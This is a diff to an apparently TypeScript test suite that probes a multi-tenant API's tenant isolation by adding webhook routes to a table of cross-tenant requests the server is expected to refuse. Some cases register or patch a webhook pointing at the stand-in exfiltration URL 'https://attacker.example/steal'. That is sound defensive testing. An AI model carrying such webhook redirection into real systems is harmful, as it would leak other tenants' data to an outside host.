@@ -356,6 +356,31 @@ const ROUTES: Record<string, (c: Context) => RestAttack[]> = {
       call: { method: "DELETE", path: `/v1/queues/${c.victim.queue}`, headers: bearer(credential!) },
       expect: { refused: { method: "DELETE", path: "/v1/queues/ghost-sales", headers: bearer(credential!) } },
     })),
+  // Webhooks: a tenant's admins manage its endpoints and read their delivery logs only.
+  "GET /v1/webhooks": (c) => [
+    { name: "the webhooks listed by the attacker's admin", node: "node2", call: { method: "GET", path: "/v1/webhooks", headers: bearer(c.attacker.tokens.alice) }, expect: "answered" },
+    { name: "the webhooks listed by the attacker's Bob, an agent", node: "node2", call: { method: "GET", path: "/v1/webhooks", headers: bearer(c.attacker.tokens.bob) }, expect: "refused" },
+    { name: "the webhooks listed by the attacker's API key", node: "node2", call: { method: "GET", path: "/v1/webhooks", headers: bearer(c.attacker.apiKey.key) }, expect: "answered" },
+    {
+      name: "the webhooks listed by the attacker's admin on the victim's host name",
+      node: "node2",
+      call: { method: "GET", path: "/v1/webhooks", headers: bearer(c.attacker.tokens.alice, { host: TENANT_HOSTS[VICTIM]! }) },
+      expect: { code: "TENANT_MISMATCH" },
+    },
+  ],
+  "POST /v1/webhooks": (c) => [
+    {
+      name: "a webhook registered by the attacker's admin on the victim's host name",
+      node: "node2",
+      call: { method: "POST", path: "/v1/webhooks", ...json({ url: "https://attacker.example/steal", secret: "0123456789abcdef0123" }, bearer(c.attacker.tokens.alice, { host: TENANT_HOSTS[VICTIM]! })) },
+      expect: { code: "TENANT_MISMATCH" },
+    },
+  ],
+  ...webhookAttacks("PATCH", (id) => `/v1/webhooks/${id}`, { url: "https://attacker.example/steal" }),
+  ...webhookAttacks("DELETE", (id) => `/v1/webhooks/${id}`),
+  ...webhookAttacks("GET", (id) => `/v1/webhooks/${id}/deliveries`),
+  ...webhookAttacks("POST", (id) => `/v1/webhooks/${id}/ping`),
+  ...webhookAttacks("POST", (id, deliveryId) => `/v1/webhooks/${id}/deliveries/${deliveryId}/redeliver`),
   // Agents (agent administration): a tenant's admins manage its agents only; another tenant's agent id names nothing.
   "GET /v1/agents": (c) => [
     { name: "the agents listed by the attacker's admin", node: "node2", call: { method: "GET", path: "/v1/agents", headers: bearer(c.attacker.tokens.alice) }, expect: "answered" },
@@ -542,6 +567,30 @@ function publicCall(c: Context, path: string): RestAttack[] {
 /** A `/v1/chats` cursor naming a chat (as `encodeCursor` writes one). */
 function cursorOf(chatId: string): string {
   return Buffer.from(JSON.stringify([new Date().toISOString(), chatId])).toString("base64url");
+}
+
+/**
+ * A webhook route on the victim's endpoint (and delivery), by the attacker's
+ * admin and API key: answered as on ids that name nothing.
+ */
+function webhookAttacks(method: string, path: (id: string, deliveryId: string) => string, body?: unknown): Record<string, (c: Context) => RestAttack[]> {
+  const route = `${method} ${path(":id", ":deliveryId")}`;
+  return {
+    [route]: (c) =>
+      [["admin", c.attacker.tokens.alice], ["API key", c.attacker.apiKey.key]].map(([who, credential]) => {
+        const make = (id: string, deliveryId: string): Call => ({
+          method,
+          path: path(id, deliveryId),
+          ...(body === undefined ? { headers: bearer(credential!) } : json(body, bearer(credential!))),
+        });
+        return {
+          name: `the victim's webhook, ${method} by the attacker's ${who}`,
+          node: "node2",
+          call: make(c.victim.webhook.id, c.victim.webhook.deliveryId),
+          expect: { refused: make(ghost.webhookId, ghost.deliveryId) },
+        };
+      }),
+  };
 }
 
 /**
